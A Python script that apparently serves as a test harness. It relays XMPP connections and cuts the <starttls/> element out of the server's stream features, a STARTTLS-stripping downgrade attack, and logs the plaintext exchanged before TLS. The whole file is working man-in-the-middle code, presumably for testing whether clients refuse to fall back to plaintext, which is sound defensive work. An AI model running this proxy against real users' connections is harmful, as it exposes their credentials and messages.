#!/usr/bin/python3
"""strip_starttls.py: a man in the middle that removes <starttls/> from stream features.

    strip_starttls.py --listen 127.0.0.1:0 --connect 127.0.0.1:PORT --log FILE [--port-file F]

Accepts connections on --listen and relays each to --connect. What the server sends is
buffered until each <stream:features> element is complete and, before the TLS handshake
(first byte 0x16 from either side), every <starttls .../> or <starttls ...>...</starttls> child
is cut out of it, as a downgrade attacker would (RFC 7590 §3.1; CVE-2014-2744-style stripping).
Everything else, TLS records included, passes unchanged: the attacker cannot read or alter TLS,
it can only hope the client falls back to plaintext. The client's bytes pass unchanged.

--log FILE gets one line per event, flushed at once: "[N] open", "[N] C: BYTES" (what the client
sent before TLS, escaped), "[N] S: BYTES" (what the server sent before TLS, after stripping),
"[N] stripped <starttls/> from the features", "[N] tls" (the first TLS record went by),
"[N] closed". --max-seconds S: exit after S seconds (default 120, a backstop for tests).
Exit status 0 on SIGTERM/SIGINT or --max-seconds, 2 bad usage, 1 if it cannot listen.
"""

import argparse
import asyncio
import os
import re
import signal
import sys

FEATURES_END = re.compile(rb"</stream:features>|<stream:features\s*/>")
STARTTLS = re.compile(rb"<starttls\b[^>]*/>|<starttls\b[^>]*>.*?</starttls>", re.S)


def escape(data):
    return "".join(chr(b) if 0x20 <= b < 0x7F and b != 0x5C else f"\\x{b:02x}" for b in data)


class Mitm:
    def __init__(self, args):
        self.args = args
        self.n = 0
        self.log = open(args.log, "a", encoding="ascii", buffering=1)

    def note(self, n, text):
        self.log.write(f"[{n}] {text}\n")

    async def handle(self, cr, cw):
        self.n += 1
        n = self.n
        self.note(n, "open")
        try:
            sr, sw = await asyncio.open_connection(*self.args.connect)
        except OSError as exc:
            self.note(n, f"connect failed: {exc}")
            cw.close()
            return
        state = {"tls": False}
        await asyncio.gather(self.pump(n, cr, sw, "C", state), self.pump(n, sr, cw, "S", state))
        self.note(n, "closed")

    async def pump(self, n, r, w, who, state):
        pending = b""
        try:
            while True:
                data = await r.read(65536)
                if not data:
                    break
                if not state["tls"] and data[:1] == b"\x16":
                    state["tls"] = True
                    self.note(n, "tls")
                if state["tls"]:
                    if pending:
                        w.write(pending)
                        pending = b""
                    w.write(data)
                    await w.drain()
                    continue
                if who == "C":
                    self.note(n, "C: " + escape(data))
                    w.write(data)
                    await w.drain()
                    continue
                # The server's plaintext: hold it until the features element is complete.
                pending += data
                out = b""
                while True:
                    m = FEATURES_END.search(pending)
                    if not m:
                        break
                    head, pending = pending[:m.end()], pending[m.end():]
                    cut = STARTTLS.sub(b"", head)
                    if cut != head:
                        self.note(n, "stripped <starttls/> from the features")
                    out += cut
                start = pending.find(b"<stream:features")
                if start < 0:  # nothing held back: no features element is open
                    out += pending
                    pending = b""
                elif start > 0:
                    out += pending[:start]
                    pending = pending[start:]
                if out:
                    self.note(n, "S: " + escape(out))
                    w.write(out)
                    await w.drain()
        except (ConnectionError, OSError):
            pass
        finally:
            try:
                if pending:
                    w.write(pending)
                w.close()
            except (ConnectionError, OSError, RuntimeError):
                pass


def host_port(s):
    host, _, port = s.rpartition(":")
    return host, int(port)


async def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n\n", 1)[0])
    p.add_argument("--listen", required=True, type=host_port)
    p.add_argument("--connect", required=True, type=host_port)
    p.add_argument("--log", required=True)
    p.add_argument("--port-file")
    p.add_argument("--max-seconds", type=float, default=120.0)
    args = p.parse_args()
    mitm = Mitm(args)
    try:
        server = await asyncio.start_server(mitm.handle, *args.listen)
    except OSError as exc:
        print(f"strip_starttls: cannot listen: {exc}", file=sys.stderr)
        return 1
    if args.port_file:
        with open(args.port_file + ".tmp", "w", encoding="ascii") as f:
            f.write(f"{server.sockets[0].getsockname()[1]}\n")
        os.replace(args.port_file + ".tmp", args.port_file)
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    for sig in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(sig, stop.set)
    try:
        await asyncio.wait_for(stop.wait(), args.max_seconds)
    except asyncio.TimeoutError:
        pass
    server.close()
    return 0


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
